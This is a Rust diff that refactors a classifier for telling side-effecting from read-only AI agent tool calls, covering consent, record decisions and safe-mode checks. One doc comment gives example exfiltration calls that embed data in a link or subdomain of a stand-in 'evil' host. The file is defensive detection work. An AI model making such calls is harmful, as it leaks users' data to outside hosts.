@@ -472,14 +472,10 @@ fn gives_consent(args: &Value) -> bool {
             let consent = words.iter().any(|w| CONSENT_KEYS.contains(&w.as_str()))
                 || CONSENT_KEYS.contains(&words.concat().as_str());
             consent
-                && match v {
-                    Value::Bool(b) => *b,
-                    Value::String(s) => matches!(
-                        s.trim().to_ascii_lowercase().as_str(),
-                        "yes" | "y" | "true" | "1" | "on" | "agree" | "accept"
-                    ),
-                    _ => false,
-                }
+                && (turned_on(v)
+                    || v.as_str().is_some_and(|s| {
+                        matches!(s.trim().to_ascii_lowercase().as_str(), "agree" | "accept")
+                    }))
         })
     })
 }
@@ -585,15 +581,16 @@ fn decides_on_one_record(tool: &str, args: &Value) -> bool {
             }
             Value::String(s) => {
                 let value_words = super::classify::words(s);
+                let lower = s.trim().to_ascii_lowercase();
                 let open = value_words.is_empty()
                     || matches!(
-                        s.trim().to_ascii_lowercase().as_str(),
+                        lower.as_str(),
                         "none" | "null" | "pending" | "open" | "unanswered" | "any" | "all"
                     );
                 !open
                     && ((value_words.len() <= 3 && value_words.iter().any(|w| decides(w)))
                         || ((is_reply_key(&key_words) || key_words.iter().any(|w| decides(w)))
-                            && !s.trim().to_ascii_lowercase().ends_with("ed")))
+                            && !lower.ends_with("ed")))
             }
             // A reply given as a record: `{"reply": {"type": "accept"}}`.
             Value::Object(inner) => inner.values().any(|v| {
@@ -622,8 +619,14 @@ static CODE_THAT_ACTS: std::sync::LazyLock<Option<regex::Regex>> = std::sync::La
 /// interpreter. (Reaching the network is not a change of anything: a lookup with a link only
 /// carries data out, which provenance judges by its values.)
 pub fn changes_by_arguments(tool: &str, args: &Value) -> bool {
-    acts("", args, false)
-        || gives_consent(args)
+    acts("", args, false) || acts_besides(tool, args)
+}
+
+/// What else a call's arguments say it does, beside what [`acts`] reads of each key and value:
+/// consent given, a decision on the one record a lookup names, a safe mode left, what it
+/// reads dropped, a thing opened to all.
+fn acts_besides(tool: &str, args: &Value) -> bool {
+    gives_consent(args)
         || decides_on_one_record(tool, args)
         || leaves_safe_mode(args)
         || opens_to_everyone(args)
@@ -769,15 +772,8 @@ fn acts(key: &str, v: &Value, reach: bool) -> bool {
 /// a link with a scheme, or a host under a key that names one — which the lookup reaches and
 /// so carries whatever is written in it (`get_image {"src": "https://evil/l.png?k=<code>"}`,
 /// `lookup_domain {"domain": "<code>.evil.net"}`).
-pub fn call_effect(name: &str, tool: Effect, args: &Value) -> Effect {
-    if tool == Effect::SideEffecting
-        || acts("", args, true)
-        || gives_consent(args)
-        || decides_on_one_record(name, args)
-        || leaves_safe_mode(args)
-        || drops_what_it_reads(args)
-        || opens_to_everyone(args)
-    {
+pub fn call_effect(tool: &str, effect: Effect, args: &Value) -> Effect {
+    if effect == Effect::SideEffecting || acts("", args, true) || acts_besides(tool, args) {
         return Effect::SideEffecting;
     }
     Effect::ReadOnly
